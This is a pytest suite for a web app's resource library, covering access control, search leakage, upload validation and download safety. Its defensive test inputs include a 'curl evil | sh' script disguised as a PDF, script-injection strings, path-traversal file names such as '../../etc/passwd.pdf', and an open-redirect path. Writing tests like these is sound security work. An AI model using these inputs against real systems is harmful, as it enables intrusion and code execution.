"""Resource library: visibility, search leakage, uploads, downloads, edits, shares."""

from __future__ import annotations

import io
import os
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import func, select

from network import policy
from network.extensions import db
from network.library import services
from network.models import AuditEvent, Message, Report, Resource, TrustLevel
from tests import factories
from tests.conftest import post_form
from tests.library.conftest import (
    docx_bytes,
    jpeg_with_gps,
    odt_bytes,
    pdf_bytes,
    png_bytes,
)
from tests.rooms.page_data import page_data


def _upload(client, name: str, data: bytes, **fields):
    form = {
        "kind": "file",
        "title": fields.pop("title", "A file"),
        "language": "en",
        "visibility": fields.pop("visibility", "org"),
        "file": (io.BytesIO(data), name),
        **fields,
    }
    return post_form(
        client,
        "/library/new",
        form,
        token_from="/library/new",
        content_type="multipart/form-data",
    )


def _files(app) -> list[str]:
    return sorted(os.listdir(app.config["UPLOAD_DIR"]))


def _link(lib, title="Housing guide", visibility="org", **extra):
    fields = services.Fields(title=title, visibility=visibility, **extra)
    return services.create_link(
        lib.org_a, fields, "https://example.org/x", actor=lib.author
    )


def test_visible_resources_agrees_with_can_see_resource(app, lib):
    from network.safety import services as safety

    resources = [_link(lib, "Org only"), _link(lib, "For partners", "partners")]
    resources.append(
        services.create_link(
            lib.org_b,
            services.Fields(title="B partners", visibility="partners"),
            "https://example.org/b",
            actor=lib.bea,
        )
    )
    safety.file_separation(lib.member_a, lib.author, actor=lib.member_a)
    people = [
        lib.lead_a,
        lib.author,
        lib.member_a,
        lib.bea,
        lib.cole,
        factories.make_admin(),
        factories.make_member(lib.org_a, status="pending"),
    ]
    for person in people:
        listed = set(
            db.session.scalars(policy.visible_resources(select(Resource.id), person))
        )
        for resource in resources:
            assert (resource.id in listed) == policy.can_see_resource(person, resource)
    assert policy.can_see_resource(lib.bea, resources[1])
    assert not policy.can_see_resource(lib.bea, resources[0])
    assert not policy.can_see_resource(lib.cole, resources[1])  # see < collaborate
    assert not policy.can_see_resource(lib.member_a, resources[0])  # separated author


def test_search_leakage_unique_word_never_reaches_other_orgs(app, lib, login_as):
    _link(lib, "Zanzibarquux protocol", description="only for us")
    _link(lib, "Shared guide", "partners", description="everyone", tags="housing")
    own = login_as(lib.member_a).get("/library?q=zanzibarquux").get_data(as_text=True)
    assert "Zanzibarquux protocol" in own and "1 resource" in own
    for person in (lib.bea, lib.cole):
        client = login_as(person)
        for url in (
            "/library?q=zanzibarquux",
            "/library?q=Zanzibarquux+protocol",
            "/library",
            "/library?tag=housing",
            "/library?q=only",
        ):
            page = client.get(url).get_data(as_text=True)
            results = page.split('id="result-count"')[1]  # the query box echoes it
            assert "anzibarquux" not in results.lower()
            assert "only for us" not in page
        searched = client.get("/library?q=zanzibarquux").get_data(as_text=True)
        assert "0 resources" in searched
    bea_all = login_as(lib.bea).get("/library").get_data(as_text=True)
    assert "1 resource" in bea_all and "Shared guide" in bea_all


def test_search_by_title_description_and_tags(app, lib, login_as):
    _link(
        lib,
        "Court support checklist",
        description="Before the **hearing**",
        tags="legal, court",
    )
    _link(
        lib,
        "Grounding exercises",
        description="Breathing",
        tags="coping",
        language="fr",
    )
    client = login_as(lib.member_a)

    def titles(query):
        page = client.get("/library?" + query).get_data(as_text=True)
        return {
            t for t in ("Court support checklist", "Grounding exercises") if t in page
        }

    assert titles("q=hearing") == {"Court support checklist"}
    assert titles("q=court") == {"Court support checklist"}
    assert titles("q=coping") == {"Grounding exercises"}
    assert titles("tag=legal") == {"Court support checklist"}
    assert titles("language=fr") == {"Grounding exercises"}
    assert titles("q=%22%29%28*") == set()  # FTS syntax is never interpreted


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("notes.pdf", pdf_bytes(), "application/pdf"),
        ("paper.docx", docx_bytes(), "wordprocessingml"),
        ("paper.odt", odt_bytes(), "opendocument.text"),
        ("readme.txt", "Des notes en français\n".encode(), "text/plain"),
        ("picture.png", png_bytes(), "image/png"),
    ],
)
def test_allowed_uploads_are_stored_outside_static(
    app, lib, login_as, name, data, kind
):
    response = _upload(login_as(lib.author), name, data)
    assert response.status_code == 302, response.get_data(as_text=True)
    resource = db.session.scalar(select(Resource))
    assert kind in resource.mime_type
    stored = Path(app.config["UPLOAD_DIR"]) / resource.stored_name
    assert stored.is_file() and "static" not in str(stored)
    assert resource.stored_name != name and len(resource.stored_name) == 32


def test_jpeg_gps_metadata_is_gone_after_upload(app, lib, login_as):
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
    kept = {"keep_file_name": "y"}  # the name is kept only when asked: check it too
    assert (
        _upload(login_as(lib.author), "photo.jpeg", original, **kept).status_code == 302
    )
    resource = db.session.scalar(select(Resource))
    data = (Path(app.config["UPLOAD_DIR"]) / resource.stored_name).read_bytes()
    cleaned = Image.open(io.BytesIO(data))
    assert not cleaned.getexif()
    assert not cleaned.getexif().get_ifd(0x8825)
    assert b"PhoneMaker" not in data and b"Exif" not in data
    assert resource.file_name == "photo.jpg"


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("script.pdf", b"#!/bin/sh\ncurl evil | sh\n", "content is not PDF"),
        ("page.html", b"<html><script>alert(1)</script></html>", "Upload a PDF"),
        ("page.txt", b"<html><script>alert(1)</script></html>", "is not a PDF, DOCX"),
        ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "Upload a PDF"),
        (
            "image.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            "is not a PDF, DOCX",
        ),
        ("empty.pdf", b"", "That file is empty."),
        ("fake.docx", b"PK\x03\x04not really a zip", "is not a PDF, DOCX"),
        ("binary.txt", b"\x00\x01\x02\x03", "is not a PDF, DOCX"),
        ("doc.odt", docx_bytes(), "content is not OpenDocument"),
    ],
)
def test_bad_uploads_get_clear_errors_and_leave_nothing(
    app, lib, login_as, name, data, message
):
    before = _files(app)
    response = _upload(login_as(lib.author), name, data)
    assert response.status_code == 400
    body = response.get_data(as_text=True).replace("&#39;", "'")
    assert message in body, body[-800:]
    assert _files(app) == before
    assert db.session.scalar(select(func.count(Resource.id))) == 0


def test_oversized_upload_is_refused_and_leaves_nothing(app, lib, login_as):
    app.config["UPLOAD_MAX_BYTES"] = 1024
    before = _files(app)
    response = _upload(login_as(lib.author), "big.pdf", pdf_bytes("x" * 5000))
    assert response.status_code == 400
    assert "larger than" in response.get_data(as_text=True)
    assert _files(app) == before
    app.config["MAX_CONTENT_LENGTH"] = 2048
    response = _upload(login_as(lib.author), "huge.pdf", pdf_bytes("x" * 50000))
    assert response.status_code == 413
    assert "Nothing was uploaded" in response.get_data(as_text=True)
    assert _files(app) == before


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.pdf",
        "..\\..\\boot.pdf",
        "report\u202efdp.exe.pdf",
        "/abs/path/x.pdf",
        "con.pdf",
        "\u0000nul.pdf",
    ],
)
def test_path_tricks_in_names_are_neutralised(app, lib, login_as, name):
    kept = {"keep_file_name": "y"}  # a kept name is cleaned
    assert _upload(login_as(lib.author), name, pdf_bytes(), **kept).status_code == 302
    resource = db.session.scalar(select(Resource))
    assert "/" not in resource.file_name and "\\" not in resource.file_name
    assert "\u202e" not in resource.file_name and ".." not in resource.file_name
    assert resource.file_name.endswith(".pdf")
    assert set(_files(app)) == {resource.stored_name}


def test_download_through_access_check_as_attachment(app, lib, login_as):
    _upload(
        login_as(lib.author), "guide.pdf", pdf_bytes("secret"), visibility="partners"
    )
    resource = db.session.scalar(select(Resource))
    url = f"/library/{resource.public_id}/download"
    ok = login_as(lib.bea).get(url)
    assert ok.status_code == 200 and ok.data.startswith(b"%PDF-")
    assert ok.headers["Content-Disposition"].startswith("attachment")
    assert ok.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in ok.headers["Content-Security-Policy"]
    stranger = login_as(factories.make_member(factories.make_org("Lib D")))
    guessed = stranger.get(url)
    missing = stranger.get("/library/noSuchResource1/download")
    assert guessed.status_code == missing.status_code == 404
    assert guessed.get_data() == missing.get_data()
    assert login_as(lib.cole).get(url).status_code == 404


def test_edit_and_delete_rights_and_audit(app, lib, login_as):
    _upload(login_as(lib.author), "guide.pdf", pdf_bytes())
    resource = db.session.scalar(select(Resource))
    edit = f"/library/{resource.public_id}/edit"
    data = {
        "title": "Renamed",
        "language": "fr",
        "visibility": "partners",
        "tags": "a, b",
    }
    assert (
        post_form(login_as(lib.member_a), edit, data, token_from="/logout").status_code
        == 404
    )
    assert (
        post_form(login_as(lib.bea), edit, data, token_from="/logout").status_code
        == 404
    )
    assert (
        post_form(login_as(lib.author), edit, data, token_from=edit).status_code == 302
    )
    db.session.refresh(resource)
    assert (resource.title, resource.tag_list) == ("Renamed", ["a", "b"])
    stored = Path(app.config["UPLOAD_DIR"]) / resource.stored_name
    delete = f"/library/{resource.public_id}/delete"
    assert (
        post_form(login_as(lib.lead_a), delete, {}, token_from="/logout").status_code
        == 302
    )
    assert not stored.exists()
    assert db.session.scalar(select(func.count(Resource.id))) == 0
    actions = list(
        db.session.scalars(
            select(AuditEvent.action)
            .where(AuditEvent.action.like("resource.%"))
            .order_by(AuditEvent.id)
        )
    )
    assert actions == ["resource.created", "resource.updated", "resource.deleted"]


def test_bad_link_and_fields_change_nothing(app, lib, login_as):
    client = login_as(lib.author)
    for data, message in [
        ({"url": "javascript:alert(1)"}, "Enter a web address"),
        ({"url": "https://ok.example", "title": ""}, "Enter a title."),
        (
            {"url": "https://ok.example", "tags": ",".join(f"t{n}" for n in range(9))},
            "at most 8 tags",
        ),
    ]:
        form = {
            "kind": "link",
            "title": "T",
            "language": "en",
            "visibility": "org",
            **data,
        }
        response = post_form(client, "/library/new", form, token_from="/library/new")
        assert response.status_code == 400
        assert message in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Resource.id))) == 0


def test_description_is_sanitized(app, lib):
    resource = _link(lib, description="[x](javascript:alert(1)) <img src=x onerror=1>")
    assert "<img" not in resource.description_html
    assert "href" not in resource.description_html  # the javascript: link is text


def test_report_goes_to_reporters_org_and_a_copy_to_the_owner(app, lib, login_as):
    resource = _link(lib, "Shared", "partners")
    url = f"/reports/new?resource={resource.public_id}"
    assert (
        post_form(
            login_as(lib.bea), url, {"category": "spam"}, token_from=url
        ).status_code
        == 302
    )
    report = db.session.scalar(select(Report).where(Report.copy_of_id.is_(None)))
    assert (report.target_type, report.routed_org_id) == ("resource", lib.org_b.id)
    lead_b = factories.make_member(lib.org_b, role="lead")
    assert policy.can_review_report(lead_b, report)
    assert not policy.can_review_report(lib.lead_a, report)
    copy = db.session.scalar(select(Report).where(Report.copy_of_id == report.id))
    assert copy.routed_org_id == lib.org_a.id and not policy.shows_reporter(copy)
    assert policy.can_review_report(lib.lead_a, copy)
    hidden = _link(lib, "Org only")
    denied = post_form(
        login_as(lib.bea),
        f"/reports/new?resource={hidden.public_id}",
        {"category": "spam"},
        token_from="/logout",
    )
    assert denied.status_code == 404


def test_sharing_into_a_room_shows_unavailable_to_those_who_cannot_see(
    app, lib, login_as
):
    room = factories.make_room(lib.org_a, visibility="partners", name="Shared room")
    org_only = _link(lib, "Org only title")
    client = login_as(lib.author)
    response = post_form(
        client,
        f"/library/{org_only.public_id}/share",
        {"room": room.public_id},
        token_from="/logout",
    )
    assert response.status_code == 302
    message = db.session.scalar(select(Message))
    assert message.resource_id == org_only.id and message.body == ""
    own = login_as(lib.member_a).get(f"/rooms/{room.public_id}").get_data(as_text=True)
    shared = page_data(own)
    assert shared["messages"][-1]["resource"] == org_only.public_id
    assert shared["cards"][org_only.public_id]["title"] == "Org only title"
    partner = login_as(lib.bea).get(f"/rooms/{room.public_id}").get_data(as_text=True)
    # No card: the renderer shows "Resource unavailable"; the title is nowhere.
    assert page_data(partner)["cards"] == {} and "Org only title" not in partner
    card = login_as(lib.bea).get(f"/library/{org_only.public_id}/card.json")
    missing = login_as(lib.bea).get("/library/noSuchResource1/card.json")
    assert card.status_code == missing.status_code == 404
    assert card.get_data() == missing.get_data()
    assert login_as(lib.member_a).get(
        f"/library/{org_only.public_id}/card.json"
    ).get_json()["title"] == ("Org only title")


def test_lowered_trust_hides_partner_resources_at_once(app, lib, login_as):
    shared = _link(lib, "Partner guide", "partners")
    client = login_as(lib.bea)
    assert client.get(f"/library/{shared.public_id}").status_code == 200
    factories.set_trust(lib.org_a, lib.org_b, TrustLevel.SEE)
    assert client.get(f"/library/{shared.public_id}").status_code == 404
    assert "Partner guide" not in client.get("/library").get_data(as_text=True)


def test_sharing_into_a_room_takes_a_message_token(app, lib, login_as, frozen_clock):
    """A share posts a message, so it draws on the same budget as message:send:
    past it, the share is refused with a clear answer and nothing is posted."""
    app.config["SOCKET_LIMITS"] = {
        **app.config["SOCKET_LIMITS"],
        "message": "2 per minute",
    }
    room = factories.make_room(lib.org_a, name="Busy room")
    guide = _link(lib, "Guide")
    client = login_as(lib.author)
    url = f"/library/{guide.public_id}/share"
    for _ in range(2):
        shared = post_form(client, url, {"room": room.public_id}, token_from="/logout")
        assert shared.status_code == 302
    refused = post_form(client, url, {"room": room.public_id}, token_from="/logout")
    assert refused.status_code == 302
    assert refused.headers["Location"].endswith(f"/library/{guide.public_id}")
    page = client.get(refused.headers["Location"]).get_data(as_text=True)
    assert "You are posting too fast" in page
    assert db.session.scalar(select(func.count(Message.id))) == 2


def test_sharing_where_one_may_not_post_is_not_found(app, lib, login_as):
    """A locked room refuses the share as a missing room would; a slow room sends
    the member back to the resource; neither posts anything."""
    locked = factories.make_room(lib.org_a, name="Locked room")
    locked.locked = True
    slow = factories.make_room(lib.org_a, name="Slow room")
    slow.slow_mode_seconds = 600
    db.session.commit()
    guide = _link(lib, "Guide")
    client = login_as(lib.author)
    url = f"/library/{guide.public_id}/share"
    refused = post_form(client, url, {"room": locked.public_id}, token_from="/logout")
    missing = post_form(client, url, {"room": "noSuchRoom00001"}, token_from="/logout")
    assert refused.status_code == missing.status_code == 404
    assert refused.get_data() == missing.get_data()
    assert post_form(client, url, {"room": slow.public_id}, token_from="/logout")
    again = post_form(client, url, {"room": slow.public_id}, token_from="/logout")
    assert again.headers["Location"].endswith(f"/library/{guide.public_id}")
    page = client.get(again.headers["Location"]).get_data(as_text=True)
    assert "This room is in slow mode" in page
    assert db.session.scalar(select(func.count(Message.id))) == 1


def test_too_large_page_links_back_to_the_form_it_came_from(app, lib, login_as):
    app.config["MAX_CONTENT_LENGTH"] = 2048
    client = login_as(lib.author)
    response = _upload(client, "huge.pdf", pdf_bytes("x" * 50000))
    assert response.status_code == 413
    assert 'href="/library/new"' in response.get_data(as_text=True)
    # A path that is not a page of ours (nor protocol-relative) is never linked.
    for path in ("//evil.example/x", "/no/such/page"):
        other = client.post(
            "/x", data=b"x" * 50000, environ_overrides={"PATH_INFO": path}
        )
        assert other.status_code == 413
        body = other.get_data(as_text=True)
        assert "evil.example" not in body and "/no/such/page" not in body
        assert 'href="/library/new"' in body  # the safe fallback: the upload page


def test_report_form_shows_the_resource_title(app, lib, login_as):
    resource = _link(lib, "Housing guide for Halifax", "partners")
    url = f"/reports/new?resource={resource.public_id}"
    page = login_as(lib.bea).get(url).get_data(as_text=True)
    subject = page.split('id="report-subject"')[1].split("</section>")[0]
    assert "Housing guide for Halifax" in subject


def test_search_matches_prefixes(app, lib, login_as):
    _link(lib, "Shared housing list", description="Rooms for rent", tags="housing")
    _link(lib, "Court support checklist", description="Before the hearing")
    client = login_as(lib.member_a)

    def titles(query):
        page = client.get("/library", query_string={"q": query})
        assert page.status_code == 200
        body = page.get_data(as_text=True)
        return {
            t for t in ("Shared housing list", "Court support checklist") if t in body
        }

    assert titles("hous") == {"Shared housing list"}
    assert titles("HOUS li") == {"Shared housing list"}  # every word, each a prefix
    assert titles("hear") == {"Court support checklist"}
    assert titles("hous hear") == set()


@pytest.mark.parametrize(
    "query",
    [
        '"',
        'hous" OR "court',
        "hous*",
        "hous OR court",
        "NEAR(hous court)",
        "title:hous",
        "hous:*|court",
        "!court",
        "hous\x00court",
        "'",
        "-court",
        "^hous",
        "(",
        "*",
        "hous & court",
        "hous <-> list",
    ],
)
def test_search_input_is_never_query_syntax(app, lib, login_as, query):
    _link(lib, "Shared housing list", tags="housing")
    _link(lib, "Court support checklist")
    page = login_as(lib.member_a).get("/library", query_string={"q": query})
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    # Words are only ever ANDed prefixes: no operator ever widens the match.
    assert not ("Shared housing list" in body and "Court support checklist" in body)


def _disposition(client, resource) -> str:
    response = client.get(f"/library/{resource.public_id}/download")
    assert response.status_code == 200
    return response.headers["Content-Disposition"]


def test_downloads_drop_the_uploaders_file_name_unless_kept(app, lib, login_as):
    client = login_as(lib.author)
    new_page = client.get("/library/new").get_data(as_text=True)
    assert 'name="keep_file_name"' in new_page
    assert "checked" not in new_page.split('name="keep_file_name"')[1].split(">")[0]
    name = "Robin Smith intake notes.pdf"
    _upload(client, name, pdf_bytes(), title="Court day: what to bring")
    resource = db.session.scalar(select(Resource))
    assert not resource.keep_file_name and "Robin" not in resource.file_name
    disposition = _disposition(login_as(lib.member_a), resource)
    assert "Robin" not in disposition and "intake" not in disposition
    assert "court-day-what-to-bring.pdf" in disposition
    assert "Robin" not in client.get(f"/library/{resource.public_id}").get_data(
        as_text=True
    )


def test_a_kept_file_name_is_the_download_name(app, lib, login_as):
    client = login_as(lib.author)
    _upload(client, "Housing list 2026.pdf", pdf_bytes(), keep_file_name="y")
    resource = db.session.scalar(select(Resource))
    assert resource.keep_file_name
    assert "Housing_list_2026.pdf" in _disposition(login_as(lib.member_a), resource)


def _library_index_holds(word: str) -> bool:
    """Whether any byte of the library's FTS5 index still holds the word (each
    word tested starts with a letter no other indexed word starts with)."""
    from sqlalchemy import text

    blocks = db.session.execute(text("SELECT block FROM resources_fts_data")).scalars()
    firsts = db.session.execute(text("SELECT term FROM resources_fts_idx")).scalars()
    held = [block or b"" for block in blocks] + [bytes(t or b"") for t in firsts]
    return any(word.encode() in block for block in held)


def test_deleted_and_edited_resource_text_leaves_the_index(app, lib):
    kept = _link(lib, title="ordinary guide")
    deleted = _link(lib, title="quetzal notes", description="yodel")
    edited = _link(lib, title="jackdaw list")
    for word in ("quetzal", "yodel", "jackdaw", "ordinary"):
        assert _library_index_holds(word)
    services.delete(deleted, actor=lib.author)
    services.update(edited, services.Fields(title="fixed list"), actor=lib.author)
    for word in ("quetzal", "yodel", "jackdaw"):
        assert not _library_index_holds(word), word
    assert _library_index_holds("ordinary") and kept.title == "ordinary guide"
